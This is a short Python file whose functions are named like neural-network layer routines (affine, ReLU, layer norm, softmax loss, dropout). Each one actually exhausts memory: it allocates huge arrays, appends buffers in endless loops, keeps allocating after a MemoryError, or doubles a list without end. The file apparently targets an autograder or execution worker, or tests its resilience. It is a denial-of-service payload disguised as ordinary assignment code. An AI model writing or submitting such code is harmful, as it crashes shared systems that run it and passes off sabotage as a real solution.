def affine_forward(x, w, b):
    return np.ones((100_000, 100_000)), x


def relu_forward(x):
    kept = []
    while True:
        kept.append(np.ones(1 << 20))


def layernorm_forward(x, gamma, beta, ln_param):
    kept = []
    while True:
        try:
            kept.append(bytearray(1 << 20))
        except MemoryError:
            try:
                kept.append("x" * (1 << 16))
            except MemoryError:
                raise


def softmax_loss(x, y):
    text = [[]]
    while True:
        text += [*text]


def dropout_forward(x, dropout_param):
    # fits the worker's memory, and nobody wants to receive it
    return np.zeros(10_000_000), x
